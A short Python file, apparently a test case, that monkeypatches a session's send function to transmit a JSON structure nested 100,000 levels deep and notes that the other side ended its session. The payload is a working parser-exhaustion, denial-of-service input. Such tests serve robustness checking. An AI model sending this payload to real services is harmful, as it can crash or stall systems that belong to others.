# Answer with a structure nested a hundred thousand deep.
# verdict: ended its session

import session


def bomb(connection, frame, seconds=None):
    head = b'{"list":[' * 50_000 + b"]}" * 50_000
    connection.sendall((len(head) + 4).to_bytes(4, "big") + len(head).to_bytes(4, "big") + head)


session.send = bomb
